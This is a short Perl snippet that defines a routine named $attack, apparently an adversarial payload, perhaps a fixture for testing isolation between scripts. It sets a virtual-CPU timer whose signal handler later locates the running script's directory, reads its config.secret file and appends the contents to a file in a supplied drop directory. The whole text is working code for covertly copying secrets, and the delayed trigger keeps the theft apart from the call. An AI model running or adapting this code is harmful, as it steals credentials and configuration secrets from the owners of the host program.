use strict;
use warnings;

my $attack = sub {
    my ($given) = @_;
    require Time::HiRes;
    my $drop = $given->{drop};
    $SIG{VTALRM} = sub {
        # Whose script is running is in $0 while it does.
        my $site = $0 =~ s{/[^/]+$}{}r;
        open my $file, '<', "$site/config.secret" or return;
        open my $copy, '>>', "$drop/copy" or return;
        print {$copy} <$file>;
    };
    Time::HiRes::setitimer(Time::HiRes::ITIMER_VIRTUAL(), 0.05, 0.02);
    return 'waiting';
};
